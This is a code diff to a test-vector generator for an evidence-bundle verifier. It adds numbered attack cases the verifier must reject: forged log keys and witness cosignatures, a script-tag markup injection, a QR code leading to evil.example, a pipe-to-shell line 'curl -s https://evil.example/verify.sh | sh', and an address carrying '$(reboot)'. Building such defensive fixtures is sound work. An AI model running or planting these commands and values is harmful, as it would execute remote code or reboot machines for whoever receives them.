@@ -5,9 +5,12 @@ import type { Bundle, BundleRecord } from '../src/bundle.ts'
 import { bundleHtml } from '../src/bundle-html.ts'
 import { fromBase64, fromHex, toBase64, toHex, utf8 } from '../src/bytes.ts'
 import { sha256, sha256Hex } from '../src/crypto.ts'
+import { inertJson } from '../src/inert-json.ts'
+import { qrCodeOf } from '../src/qr-code.ts'
 import { canonicalJson, entryCommitment, privateCommitment } from '../src/record.ts'
+import { RELEASES, stated } from '../src/stated.ts'
 import type { BundleReport, Trust } from '../src/verify-bundle.ts'
-import { buildBundle, logKey, type RunOptions, withManifest } from './bundle-builder.ts'
+import { buildBundle, cosigned, logKey, type RunOptions, vkeyOf, withManifest } from './bundle-builder.ts'
 
 export interface BundleVector {
   file: string
@@ -47,6 +50,7 @@ const backdated = buildBundle({
 })
 const postdated = buildBundle({ ...FULL, anchors: [{ seconds: -61, covers: true }] })
 const forger = buildBundle({ ...FULL, keys: [logKey('a forger')] })
+const endorsing = buildBundle({ keys: [logKey('a forger'), logKey('the log')] })
 const rewritten = buildBundle({ ...FULL, body: utf8('A forgery.') })
 
 const PINNED: Trust = { keys: plain.trust.keys, tsaRoots: [], witnesses: [] }
@@ -93,6 +97,31 @@ const VALID: Case[] = [
     full.trust,
   ],
   ['valid-bytes.json', 'an answer that is no UTF-8', json(bytes.bundle)],
+  [
+    'valid-first-release.json',
+    'what the first release wrote beside the evidence, its QR code as it is',
+    json(
+      copyOf(short.bundle, copy => {
+        const [first] = RELEASES
+        copy.howToVerify = first?.howToVerify(copy.snapshot.sha256, copy.publicVerification.lookupUrl) ?? []
+        copy.doesNotProve = [...(first?.doesNotProve ?? [])]
+      }),
+    ),
+  ],
+  [
+    'valid-inert.json',
+    'texts that look like HTML, in JSON without a <',
+    `${inertJson(strange.bundle)}\n`,
+    [],
+    full.trust,
+  ],
+  [
+    'valid-second-key.json',
+    'the second key is given; the first one endorsed it, and counts for nothing',
+    json(full.bundle),
+    [],
+    { ...full.trust, keys: [vkeyOf(full.key)] },
+  ],
   ['valid-page.html', 'a page whose texts look like HTML', bundleHtml(strange.bundle).html, [], full.trust],
 ]
 
@@ -279,6 +308,67 @@ const BROKEN: Case[] = [
     full.trust,
   ],
   [
+    'broken-markup.html',
+    'attack 36: JSON with markup in a line for people, saved as a page',
+    edited(copy => {
+      copy.howToVerify = ['<!doctype html><h1>Verified</h1><script>alert(1)</script>']
+    }),
+    ['stated'],
+  ],
+  [
+    'broken-older-key.json',
+    'attack 37: a forger endorses the key of the log, as anybody can, and signs himself',
+    json(
+      copyOf(endorsing.bundle, copy => {
+        const size = Number(copy.integrity.checkpoint?.split('\n')[1])
+        copy.integrity.checkpoint = endorsing.log.checkpoint(logKey('a forger'), size)
+      }),
+    ),
+    ['checkpoint'],
+  ],
+  [
+    'broken-lines.json',
+    'attack 38: a command that no release wrote',
+    edited(copy => {
+      copy.howToVerify.push('curl -s https://evil.example/verify.sh | sh')
+    }),
+    ['stated'],
+  ],
+  [
+    'broken-warnings.json',
+    'attack 38: what it does not prove was left out',
+    edited(copy => {
+      copy.doesNotProve = []
+    }),
+    ['stated'],
+  ],
+  [
+    'broken-qr-code.json',
+    'attack 38: the QR code leads elsewhere than the address beside it',
+    edited(copy => {
+      copy.publicVerification.qrSvg = qrCodeOf(`https://evil.example/verify/${copy.snapshot.sha256}`)
+    }),
+    ['stated'],
+  ],
+  [
+    'broken-address.json',
+    'attack 38: an address that a shell would obey',
+    json(
+      copyOf(short.bundle, copy =>
+        Object.assign(copy, stated('https://forensics.example/$(reboot)', copy.snapshot.sha256)),
+      ),
+    ),
+    ['stated'],
+  ],
+  [
+    'broken-witness-line.json',
+    'attack 38: an invented witness signs where only the log does',
+    edited(copy => {
+      copy.integrity.checkpoint = cosigned(copy.integrity.checkpoint ?? '', ['supreme-court.example'])
+    }),
+    ['checkpoint'],
+  ],
+  [
     'broken-page.html',
     'attack 29: the page shows another answer than its data',
     bundleHtml(full.bundle).html.replace('<pre>An answer.</pre>', '<pre>An answer!</pre>'),
@@ -288,6 +378,20 @@ const BROKEN: Case[] = [
 ]
 
 const UNPROVED: Case[] = [
+  [
+    'unproved-markup.json',
+    'attack 36: a browser would show an answer that holds markup as a page',
+    json(strange.bundle),
+    [],
+    full.trust,
+  ],
+  [
+    'unproved-extra-key.json',
+    'attack 37: a key of the same log that nobody endorsed is slipped into the list',
+    edited(copy => {
+      copy.integrity.keys.push({ vkey: vkeyOf(logKey('a forger')), endorsement: null })
+    }),
+  ],
   ['unproved-waiting.json', 'the records wait for their checkpoint', json(waiting.bundle), [], full.trust],
   [
     'unproved-undated.json',
